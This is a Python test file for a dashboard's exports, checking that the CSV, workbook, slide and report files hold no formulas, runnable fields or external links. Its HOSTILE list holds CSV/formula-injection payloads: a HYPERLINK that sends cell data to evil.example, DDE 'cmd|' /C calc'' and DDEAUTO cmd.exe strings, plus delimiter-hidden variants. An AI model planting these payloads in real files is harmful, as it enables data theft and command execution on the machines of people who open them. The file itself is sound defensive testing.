"""No text of an export is a formula, a field or a link in any file a reader takes along."""

import csv
import io
import re
from datetime import date
from itertools import cycle
from zipfile import ZipFile

import openpyxl
import pandas as pd
import pytest
from pptx import Presentation

from analysis import unit_holding
from components import correction_file
from intake.feeds import FEEDS
from intake.feeds.declaration import Column, Feed
from queries import Filters, ask, questions
from queries.__main__ import as_csv
from queries.runner import ask_values
from reports import View, csv_file, readable, view_of, ward_names, workbook
from reports.files import Order, file_of
from tests.pages.city import HONG_BANG, tables
from tests.snapshots import write_snapshot

LINK = 'HYPERLINK("https://evil.example/?x="&A1,"x")'
HOSTILE = (
    f"={LINK}", f"+{LINK}", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", f"\t={LINK}", f"\r={LINK}", f"＝{LINK}",
    f"QL5;={LINK};", f'QL5;"={LINK}', f"QL5\t-{LINK}", f"QL5\n+{LINK}", "DDEAUTO c:\\windows\\system32\\cmd.exe",
    "\x07=bell", "_x003D_1+1", "=" * 300,
)  # fmt: skip
A_FORMULA = re.compile("[=+\\-@\t\r＝＋－＠]")
A_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?(?:e[+-]?\d+)?(?:,.*)?", re.S)
WITH_TEXTS = ("accidents", "black_spots")
AS_OF = date(2026, 10, 31)


def row_of(feed: Feed, texts) -> dict:
    """A row whose every text was written by someone who means ill; other columns have a value that may be."""
    return {column.name: value for column in feed.columns if (value := cell(column, texts)) is not None}


def cell(column: Column, texts) -> object:
    if column.kind in ("id", "text", "road"):
        return next(texts)
    if column.kind in ("date", "moment"):
        return None if column.name in ("completed_on", "period_end") else "2026-10-01"
    values = {"code": next(iter(column.codes or {"": None})), "ward": HONG_BANG, "unit": "cong_an", "count": 1}
    return values.get(column.kind)


def of_exports() -> dict[str, list[dict]]:
    texts = cycle(HOSTILE)
    rows = {feed.name: [row_of(feed, texts) for _ in HOSTILE] for feed in FEEDS.values()}
    city = {name: [with_road(row, texts) for row in rows_of] for name, rows_of in tables().items()}
    return {name: [*city.get(name, []), *rows[name]] for name in FEEDS}


def with_road(row: dict, texts) -> dict:
    """Of the roads that occur most, which slides and reports name; with a sign that no XML may hold."""
    return row | {"road": f"{next(texts)}\x07"} if "road" in row else row


def of_import() -> dict[str, list[dict]]:
    named = [{"feed": "fines", "_file": text, "column": "road", "value": text} for text in HOSTILE]
    return {
        "refused": [row | {"_line": 7, "reason": "Sai.", "row": f'{{"road": {quoted(row)}}}'} for row in named],
        "notices": [row | {"kind": "unknown_value", "count": 1} for row in named],
        "source_files": [{"path": text, "size": 1, "rows": 0, "sentence": text, "dialect": text} for text in HOSTILE],
    }


def quoted(row: dict) -> str:
    return pd.Series([row["value"]]).to_json(orient="values")[1:-1]


@pytest.fixture(scope="module")
def root(tmp_path_factory):
    folder = tmp_path_factory.mktemp("formulas")
    write_snapshot(folder, of_exports() | of_import(), as_of=AS_OF)
    return folder


@pytest.fixture
def view(root, monkeypatch) -> View:
    monkeypatch.setenv("DASHBOARD_DATA", str(root))
    year = unit_holding(AS_OF, "year", "reporting")
    return view_of(Filters(snapshot="aaaa"), year, preset="year", name="Năm đến nay")


def formulas(file: str) -> list[str]:
    """What a spreadsheet would reckon of a CSV, by whichever sign it cuts lines into cells."""
    lines = [line for delimiter in ",;\t" for line in csv.reader(io.StringIO(file, newline=""), delimiter=delimiter)]
    cells = {each for line in lines for text in line for each in re.split(r"[\r\n]", text) if text}
    return [text for text in cells if A_FORMULA.match(text) and not A_NUMBER.fullmatch(text)]


def parts(file: bytes) -> dict[str, str]:
    """The XML of an office file by name, and that of the workbooks behind its charts."""
    found = {}
    with ZipFile(io.BytesIO(file)) as whole:
        for name in whole.namelist():
            if name.endswith(".xlsx"):
                found |= {f"{name}/{inner}": text for inner, text in parts(whole.read(name)).items()}
            elif name.endswith((".xml", ".rels")):
                found[name] = whole.read(name).decode("utf-8")
    return found


def dangers(file: bytes) -> list[str]:
    """Formulas, fields that run, links out and programs; a difference of two columns of a chart's band is ours."""
    inside = parts(file)
    found = [name for name in inside if "vba" in name.lower() or "externalLink" in name]
    for text in inside.values():
        found += [f for f in re.findall(r"<f\b[^>]*>(.*?)</f>", text) if not re.fullmatch(r"D\d+-B\d+", f)]
        found += re.findall(r"<[^>]*TargetMode=\"External\"[^>]*>", text)
        found += [
            f for f in re.findall(r"<w:instrText[^>]*>(.*?)</", text) if f.split()[:1] not in (["PAGE"], ["NUMPAGES"])
        ]
    return found


def test_the_test_would_see_a_formula():
    assert formulas("a,b\n1,=1+1\n") and formulas('a,b\n1,"x;=1+1"\n') and formulas('1,"x;""=1+1&"""\n')
    assert not formulas("a,b\n-1.5,'=1+1\n")


@pytest.mark.parametrize("question", questions())
def test_no_answer_as_csv_holds_a_formula(view, question):
    assert not formulas(as_csv(*ask_values(question, Filters(snapshot="aaaa"))))
    table = readable(ask(question, Filters(snapshot="aaaa")), ward_names("aaaa"))
    assert not formulas(csv_file(table).decode("utf-8-sig"))


def test_no_answer_as_workbook_holds_a_formula(view):
    table = pd.DataFrame({text: HOSTILE for text in HOSTILE})
    assert not dangers(workbook(table, [(text, text) for text in HOSTILE]))


def test_every_text_reaches_some_csv(view):
    """Else what is held here would be held of nothing."""
    told = "".join(
        as_csv(*ask_values(name, Filters(snapshot="aaaa"))) for name in ("accidents/by_road", "tasks/reports")
    )
    assert all(text.strip()[-8:].replace('"', '""') in told for text in HOSTILE)


def test_refused_lines_hold_no_formula(view):
    refused = ask("quality/refused", Filters(snapshot="aaaa"))
    assert len(refused) == len(HOSTILE)
    assert not formulas(correction_file(refused).decode("utf-8-sig"))


@pytest.mark.parametrize("page", WITH_TEXTS)
def test_no_page_as_workbook_holds_a_formula(view, page):
    file = file_of(Order("xlsx", view, page=page))
    assert not dangers(file)
    openpyxl.load_workbook(io.BytesIO(file))


def test_slides_and_their_charts_hold_no_formula_field_or_link(view):
    file = file_of(Order("pptx", view))
    assert not dangers(file)
    shapes = [shape for slide in Presentation(io.BytesIO(file)).slides for shape in slide.shapes]
    assert not [shape for shape in shapes if shape.has_text_frame and shape.click_action.hyperlink.address]


def test_the_report_holds_no_field_that_runs_and_no_link(view):
    file = file_of(Order("docx", view))
    assert not dangers(file)
    assert LINK[:5] in parts(file)["word/document.xml"]
